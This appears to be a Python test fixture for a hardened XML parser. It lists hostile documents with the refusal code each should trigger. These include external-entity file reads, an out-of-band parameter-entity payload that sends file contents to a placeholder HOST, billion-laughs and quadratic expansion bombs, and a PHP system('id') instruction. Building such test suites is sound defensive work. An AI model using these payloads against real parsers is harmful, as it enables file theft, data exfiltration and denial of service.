"""Which documents would hurt a careless parser?

Name, document, code of the refusal. PATH stands for a file that exists, HOST for a listener.
"""

from __future__ import annotations

import codecs

DTD_BOMB = b"""<!DOCTYPE a [<!ENTITY x0 "ha">%s]><a>&x30;</a>""" % b"".join(
    b'<!ENTITY x%d "&x%d;&x%d;">' % (n, n - 1, n - 1) for n in range(1, 31)
)

# name, document (PATH stands for a file that exists), code of the refusal
ATTACKS: list[tuple[str, bytes, str]] = [
    # entities
    (
        "external entity, file",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file://PATH">]><a>&e;</a>',
        "doctype",
    ),
    (
        "external entity, bare path",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "PATH">]><a>&e;</a>',
        "doctype",
    ),
    (
        "external entity, web",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://HOST/e">]><a>&e;</a>',
        "doctype",
    ),
    (
        "external entity, ftp",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "ftp://HOST/e">]><a>&e;</a>',
        "doctype",
    ),
    (
        "public identifier",
        b'<!DOCTYPE a [<!ENTITY e PUBLIC "x" "file://PATH">]><a>&e;</a>',
        "doctype",
    ),
    (
        "entity in an attribute",
        b'<!DOCTYPE a [<!ENTITY e "x">]><a b="&e;"/>',
        "doctype",
    ),
    (
        "unparsed entity",
        b'<!DOCTYPE a [<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "file://PATH" NDATA n>]><a/>',
        "doctype",
    ),
    ("undeclared entity", b"<a>&e;</a>", "entity"),
    ("undeclared entity in an attribute", b'<a b="&e;"/>', "entity"),
    ("html entity", b"<a>caf&eacute;</a>", "entity"),
    ("entity without end", b"<a>&amp</a>", "entity"),
    ("bare ampersand", b"<a>Jansens & Co</a>", "entity"),
    ("parameter entity in content", b"<a>%e;</a><!ENTITY % e 'x'>", "declaration"),
    ("entity declaration in content", b'<a><!ENTITY e SYSTEM "file://PATH">&e;</a>', "declaration"),
    # parameter entities
    (
        "parameter entity, file",
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "file://PATH">%p;]><a/>',
        "doctype",
    ),
    (
        "parameter entity, out of band",
        (
            b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://PATH"><!ENTITY % d '
            b"\"<!ENTITY &#37; s SYSTEM 'http://HOST/?%f;'>\">%d;%s;]><a/>"
        ),
        "doctype",
    ),
    (
        "parameter entity, error based",
        (
            b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://PATH"><!ENTITY % x '
            b"\"<!ENTITY &#37; e SYSTEM 'file:///none/%f;'>\">%x;%e;]><a/>"
        ),
        "doctype",
    ),
    ("recursive parameter entity", b"<!DOCTYPE a [<!ENTITY % p '%p;'>%p;]><a/>", "doctype"),
    # expansion
    ("billion laughs", DTD_BOMB, "doctype"),
    (
        "quadratic blow-up",
        b'<!DOCTYPE a [<!ENTITY e "' + b"x" * 50_000 + b'">]><a>' + b"&e;" * 50_000 + b"</a>",
        "doctype",
    ),
    ("entity that holds itself", b'<!DOCTYPE a [<!ENTITY e "&e;">]><a>&e;</a>', "doctype"),
    (
        "entities that hold each other",
        b'<!DOCTYPE a [<!ENTITY e "&f;"><!ENTITY f "&e;">]><a>&e;</a>',
        "doctype",
    ),
    (
        "bomb in an attribute default",
        b'<!DOCTYPE a [<!ENTITY e "x"><!ATTLIST a b CDATA "&e;&e;&e;">]><a/>',
        "doctype",
    ),
    # document types
    ("external DTD, file", b'<!DOCTYPE a SYSTEM "file://PATH"><a/>', "doctype"),
    ("external DTD, web", b'<!DOCTYPE a SYSTEM "http://HOST/a.dtd"><a/>', "doctype"),
    ("external DTD, no host", b'<!DOCTYPE a SYSTEM "//HOST/a.dtd"><a/>', "doctype"),
    (
        "public DTD",
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><html/>',
        "doctype",
    ),
    ("empty DTD", b"<!DOCTYPE a><a/>", "doctype"),
    ("empty internal subset", b"<!DOCTYPE a []><a/>", "doctype"),
    ("DTD in lower case", b"<!doctype a><a/>", "doctype"),
    ("DTD after a comment", b"<!-- hello --><!DOCTYPE a><a/>", "doctype"),
    (
        "DTD after a long prolog",
        b'<?xml version="1.0"?>\n' + b"\n" * 9_000 + b"<!DOCTYPE a><a/>",
        "doctype",
    ),
    ("DTD after the root", b"<a/><!DOCTYPE a>", "doctype"),
    ("DTD inside the root", b"<a><!DOCTYPE a></a>", "doctype"),
    ("DTD in UTF-16", codecs.BOM_UTF16_LE + "<!DOCTYPE a><a/>".encode("utf-16-le"), "doctype"),
    (
        "DTD in big-endian UTF-16",
        codecs.BOM_UTF16_BE + "<!DOCTYPE a><a/>".encode("utf-16-be"),
        "doctype",
    ),
    ("DTD behind a mark", codecs.BOM_UTF8 + b"<!DOCTYPE a><a/>", "doctype"),
    ("TMX with its DTD", b'<!DOCTYPE tmx SYSTEM "tmx14.dtd"><tmx version="1.4"/>', "doctype"),
    ("TBX with its DTD", b'<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd"><martif/>', "doctype"),
    ("SVG with its DTD", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>', "doctype"),
    ("element declaration", b"<a><!ELEMENT a ANY></a>", "declaration"),
    ("notation declaration", b'<a><!NOTATION n SYSTEM "x"></a>', "declaration"),
    ("conditional section", b"<a><![INCLUDE[x]]></a>", "declaration"),
    ("conditional section with entity", b"<a><![%e;[x]]></a>", "declaration"),
    ("declaration without name", b"<a><!></a>", "declaration"),
    # processing instructions
    (
        "stylesheet",
        b'<?xml-stylesheet type="text/xsl" href="http://HOST/x.xsl"?><a/>',
        "processing-instruction",
    ),
    ("instruction in the root", b"<a><?php system('id') ?></a>", "processing-instruction"),
    ("catalogue", b'<?oasis-xml-catalog catalog="file://PATH"?><a/>', "processing-instruction"),
    (
        "second declaration",
        b'<?xml version="1.0"?><?xml version="1.0"?><a/>',
        "processing-instruction",
    ),
    ("late declaration", b' <?xml version="1.0"?><a/>', "processing-instruction"),
    ("declaration in capitals", b'<?XML version="1.0"?><a/>', "processing-instruction"),
    # size and shape
    ("nested too deep", b"<a>" * 5_000 + b"</a>" * 5_000, "too-deep"),
    ("nested too deep, never closed", b"<a>" * 100_000, "too-deep"),
    ("too many elements", b"<a>" + b"<b/>" * 60_000 + b"</a>", "too-many-elements"),
    (
        "too many attributes",
        b"<a " + b" ".join(b'b%d="x"' % n for n in range(1_000)) + b"/>",
        "too-many-attributes",
    ),
    (
        "too many namespaces",
        b"<a " + b" ".join(b'xmlns:b%d="x%d"' % (n, n) for n in range(1_000)) + b"/>",
        "too-many-attributes",
    ),
    ("attribute too long", b'<a b="' + b"x" * 100_000 + b'"/>', "tag-too-long"),
    ("name too long", b"<" + b"a" * 100_000 + b"/>", "tag-too-long"),
    ("text too long", b"<a>" + b"x" * 1_100_000 + b"</a>", "text-too-long"),
    ("CDATA too long", b"<a><![CDATA[" + b"x" * 1_100_000 + b"]]></a>", "text-too-long"),
    ("blanks after the root", b"<a/>" + b" " * 1_100_000, "text-too-long"),
    ("document too large", b"<a>" + b"<b>xxxxxxxxx</b>" * 400_000 + b"</a>", "too-large"),
    ("unclosed comments", b"<a>" + b"<!--" * 200_000, "not-well-formed"),
    ("unclosed quotes", b"<a b='" * 10_000, "not-well-formed"),
    # encodings and marks
    ("UTF-7", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-', "encoding"),
    ("UTF-32 with mark", codecs.BOM_UTF32_LE + "<a/>".encode("utf-32-le"), "encoding"),
    ("big-endian UTF-32 with mark", codecs.BOM_UTF32_BE + "<a/>".encode("utf-32-be"), "encoding"),
    ("UTF-32 without mark", "<a/>".encode("utf-32-be"), "encoding"),
    ("UTF-16 without mark", "<a/>".encode("utf-16-le"), "encoding"),
    ("big-endian UTF-16 without mark", "<a/>".encode("utf-16-be"), "encoding"),
    ("EBCDIC", '<?xml version="1.0"?><a/>'.encode("cp037"), "encoding"),
    ("unknown encoding", b'<?xml version="1.0" encoding="x-user-defined"?><a/>', "encoding"),
    ("Python codec as encoding", b'<?xml version="1.0" encoding="zlib"?><a/>', "encoding"),
    (
        "escape codec as encoding",
        b'<?xml version="1.0" encoding="unicode_escape"?><a/>',
        "encoding",
    ),
    ("ISO-2022 shifts", b'<?xml version="1.0" encoding="ISO-2022-JP"?><a>\x1b$B</a>', "encoding"),
    ("UTF-16 said, UTF-8 sent", b'<?xml version="1.0" encoding="UTF-16"?><a/>', "encoding"),
    (
        "UTF-8 mark, other name",
        codecs.BOM_UTF8 + b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        "encoding",
    ),
    (
        "UTF-16 mark, other name",
        '\ufeff<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16-le"),
        "encoding",
    ),
    ("two marks", codecs.BOM_UTF8 * 2 + b"<a/>", "encoding"),
    ("bytes that are no UTF-8", b"<a>caf\xe9</a>", "bad-bytes"),
    ("overlong UTF-8", b"<a>\xc0\xbc!DOCTYPE a></a>", "bad-bytes"),
    ("surrogates in UTF-8", b"<a>\xed\xa0\x80</a>", "bad-bytes"),
    ("half a UTF-16 pair", codecs.BOM_UTF16_LE + "<a/>".encode("utf-16-le") + b"x", "bad-bytes"),
    ("lone UTF-16 surrogate", codecs.BOM_UTF16_LE + b"<\x00a\x00>\x00\x00\xd8", "bad-bytes"),
    (
        "undefined windows-1252",
        b'<?xml version="1.0" encoding="windows-1252"?><a>\x81</a>',
        "bad-bytes",
    ),
    # characters
    ("NUL", b"<a>x\x00y</a>", "illegal-character"),
    ("escape character", b"<a>x\x1by</a>", "illegal-character"),
    ("noncharacter", "<a>\ufffe</a>".encode(), "illegal-character"),
    ("numbered NUL", b"<a>&#0;</a>", "not-well-formed"),
    ("numbered surrogate", b"<a>&#xD800;</a>", "not-well-formed"),
    ("numbered beyond Unicode", b"<a>&#x110000;</a>", "not-well-formed"),
    ("number too long", b"<a>&#00000000000000000065;</a>", "entity"),
    # declaration
    ("XML 1.1", b'<?xml version="1.1"?><a/>', "version"),
    ("XML 2.0", b'<?xml version="2.0"?><a/>', "version"),
    ("declaration without version", b"<?xml encoding='UTF-8'?><a/>", "not-well-formed"),
    ("declaration with more", b'<?xml version="1.0" href="PATH"?><a/>', "not-well-formed"),
    ("declaration never closed", b'<?xml version="1.0" <a/>', "not-well-formed"),
    # broken documents
    ("nothing", b"", "empty"),
    ("blanks only", b" \n\t ", "empty"),
    ("no XML at all", b"Dear colleagues, please find attached", "not-well-formed"),
    ("truncated in a tag", b"<a><b", "not-well-formed"),
    ("truncated in a text", b"<a><b>text", "not-well-formed"),
    ("truncated in CDATA", b"<a><![CDATA[text", "not-well-formed"),
    ("truncated in a comment", b"<a><!-- text", "not-well-formed"),
    ("tags crossed", b"<a><b></a></b>", "not-well-formed"),
    ("two roots", b"<a/><b/>", "not-well-formed"),
    ("text after the root", b"<a/>text", "not-well-formed"),
    ("attribute twice", b'<a b="1" b="2"/>', "not-well-formed"),
    (
        "attribute twice by namespace",
        b'<a xmlns:x="u" xmlns:y="u" x:b="1" y:b="2"/>',
        "not-well-formed",
    ),
    ("attribute without quotes", b"<a b=1/>", "not-well-formed"),
    ("attribute with a tag in it", b'<a b="<!DOCTYPE x>"/>', "not-well-formed"),
    ("CDATA end in text", b"<a>x]]>y</a>", "not-well-formed"),
    ("nested CDATA", b"<a><![CDATA[x<![CDATA[y]]>z]]></a>", "not-well-formed"),
    ("CDATA as root", b"<![CDATA[<a/>]]>", "not-well-formed"),
    ("comment with two dashes", b"<a><!-- a -- b --></a>", "not-well-formed"),
    ("undeclared prefix", b"<x:a/>", "not-well-formed"),
    ("prefix xml bound elsewhere", b'<a xmlns:xml="urn:x"/>', "not-well-formed"),
    ("prefix xmlns bound", b'<a xmlns:xmlns="urn:x"/>', "not-well-formed"),
    ("end tag only", b"</a>", "not-well-formed"),
    ("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xb3I\xd4\xb7\x03\x00", "encoding"),
]

# What is allowed but must stay dead: name, document.
INERT: list[tuple[str, bytes]] = [
    (
        "XInclude of a file as text",
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="PATH" parse="text"/></a>',
    ),
    (
        "XInclude of a document",
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://PATH"/></a>',
    ),
    (
        "XInclude with fallback",
        (
            b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://HOST/">'
            b"<xi:fallback>x</xi:fallback></xi:include></a>"
        ),
    ),
    (
        "schema location",
        (
            b'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
            b'i:noNamespaceSchemaLocation="http://HOST/x.xsd"/>'
        ),
    ),
    ("XML base", b'<a xml:base="file://PATH"><b href="."/></a>'),
    ("XLink", b'<a xmlns:x="http://www.w3.org/1999/xlink" x:href="PATH" x:show="embed"/>'),
    ("script element", b"<svg><script>alert(1)</script></svg>"),
    ("DOCTYPE in CDATA", b'<a><![CDATA[<!DOCTYPE a SYSTEM "PATH">&e;]]></a>'),
    ("DOCTYPE in a comment", b'<!-- <!DOCTYPE a SYSTEM "PATH"> --><a/>'),
    ("instruction in CDATA", b"<a><![CDATA[<?php ?>]]></a>"),
]
